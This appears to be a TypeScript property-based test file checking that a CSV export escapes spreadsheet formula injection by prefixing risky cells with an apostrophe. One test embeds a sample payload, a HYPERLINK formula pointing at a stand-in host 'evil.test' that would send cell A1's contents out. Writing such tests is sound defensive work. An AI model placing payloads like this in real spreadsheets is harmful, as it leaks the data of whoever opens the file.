import fc from 'fast-check'
import { expect, test } from 'vitest'
import { guarded, unguarded } from './formula-safe.ts'
import { written } from './send-csv.ts'

const signs = fc.constantFrom(...`=+-@'" \t\r\n＝aß1,;\u200b\u00ad`)
const cell = fc.oneof(fc.string(), fc.string({ unit: signs, maxLength: 6 }))

test('what begins as a formula is led by an apostrophe, also after blanks and quotation marks', () => {
  for (const formula of [
    '=1+1',
    '+49 40',
    '-2',
    '@sum',
    '\tx',
    '\rx',
    ' =1',
    `"=1`,
    `'=1`,
    '＝1',
    '\u200b=1',
    '\u2060\u00ad\ufeff=1',
  ])
    expect(guarded(formula)).toBe(`'${formula}`)
  for (const text of ['Chain', "'s-Hertogenbosch", '1-2', '']) expect(guarded(text)).toBe(text)
})

test('no guarded cell begins as a formula, and each is read again as it was', () => {
  fc.assert(
    fc.property(cell, (text) => {
      expect(guarded(text)).not.toMatch(/^[=+\-@\t\r]/)
      expect(unguarded(guarded(text))).toBe(text)
    }),
    { numRuns: 2000 },
  )
})

test('nor does a part of a cell, for a spreadsheet that divides by semicolons, tabs or line breaks', () => {
  const address = 'Main Street 1;=HYPERLINK("https://evil.test/?"&A1)'
  expect(guarded(address)).toBe(`Main Street 1;'=HYPERLINK("https://evil.test/?"&A1)`)
  expect(guarded('a\n =1\r\n\t"-1, +2')).toBe(`a\n' =1\r\n\t'"-1,' +2`)
  expect(guarded('Chain; 10-speed, nickel\nplated')).toBe('Chain; 10-speed, nickel\nplated')
})

const rows = fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 4 })

test('whatever divides the cells of an export, and wherever quotation marks are, none begins as a formula', async () => {
  await fc.assert(
    fc.asyncProperty(rows, async (cells) => {
      const pages = async function* () {
        yield cells
      }
      let csv = ''
      for await (const text of written(['a', 'b', 'c'], pages())) csv += text
      for (const said of csv.split(/[,;\t\r\n]/))
        expect(said).not.toMatch(/^[\s"\u200b\u00ad]*[=+\-@＝]/)
    }),
    { numRuns: 1000 },
  )
})

test('a cell that is made to take long is looked through at once', () => {
  const long = `${"\n'".repeat(50_000)}x`
  expect(unguarded(guarded(long))).toBe(long)
})
